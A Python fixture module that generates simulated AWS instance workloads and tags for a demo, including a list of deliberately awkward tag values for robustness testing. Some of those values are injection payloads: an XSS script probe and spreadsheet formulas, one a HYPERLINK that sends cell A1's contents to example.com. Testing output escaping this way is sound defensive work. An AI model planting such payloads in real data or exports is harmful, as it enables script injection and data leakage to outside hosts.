"""What the demo's customers run: names, types, tags as people write them, and as attackers do. Pure."""

from dataclasses import dataclass, field
from random import Random


@dataclass(frozen=True, slots=True)
class Workload:
    """A kind of instance; `share` is how often it occurs."""

    name: str
    instance_type: str
    share: int
    lifecycle: str | None = None
    platform: str = "Linux/UNIX"
    has_public_ip: bool = False
    tags: dict[str, str] = field(default_factory=dict)

    @property
    def is_spot(self) -> bool:
        return self.lifecycle == "spot"


WORKLOADS = (
    Workload("web", "t3.medium", 14, has_public_ip=True, tags={"Team": "storefront"}),
    Workload("api", "m5.large", 12, tags={"Team": "storefront"}),
    Workload("etl-worker", "c5.xlarge", 14, "spot", tags={"Team": "data", "aws:autoscaling:groupName": "etl-workers"}),
    Workload("batch", "m6i.2xlarge", 9, "spot", tags={"Team": "data"}),
    Workload("ci-runner", "c6i.2xlarge", 9, "spot", tags={"Team": "platform"}),
    Workload("cache", "r5.large", 7, tags={"Team": "storefront"}),
    Workload("db", "r5.xlarge", 6, tags={"Team": "platform", "Backup": "daily, 35 days"}),
    Workload("arm-build", "c7g.xlarge", 5, "spot", tags={"Team": "platform"}),
    Workload("render", "g4dn.xlarge", 5, "spot", tags={"Team": "media"}),
    Workload("directory", "m5.xlarge", 4, platform="Windows", tags={"Team": "office"}),
    Workload("erp", "r6i.2xlarge", 3, platform="Red Hat Enterprise Linux", tags={"Team": "finance"}),
    Workload("bastion", "t3.micro", 3, has_public_ip=True, tags={"Team": "platform"}),
)

#: Each of these is on some instance of every larger account. The empty one stands for no tags at all.
AWKWARD_TAGS: tuple[dict[str, str], ...] = (
    {"Name": "<script>alert(1)</script>", "Team": "security"},
    {"Name": "sum-1", "Formula": "=1+1"},
    {"Name": '=HYPERLINK("http://example.com/?x="&A1,"click")'},
    {"Name": "quoted-1", "Owner": """Zoë "Zed" O'Brien & sons"""},
    {"Name": "🚀 launch-pad", "Mood": "👩‍🚀✨"},
    {"Name": "long-1", "Description": ("A description that somebody took seriously. " * 6)[:255] + "!"},
    {"Name": "empty-1", "CostCenter": ""},
    {"Name": "lines-1", "Note": "first line\nsecond line"},
    {"Name": "日本語-サーバー", "Umgebung": "Prüfstand"},
    {},
)
ENVIRONMENTS = ("production", "production", "production", "staging", "test")


def pick(random: Random) -> Workload:
    """One workload, as often as its share says."""
    return random.choices(WORKLOADS, [workload.share for workload in WORKLOADS])[0]


def tags_for(workload: Workload, number: int, random: Random) -> dict[str, str]:
    return {"Name": f"{workload.name}-{number:02d}", "Environment": random.choice(ENVIRONMENTS), **workload.tags}
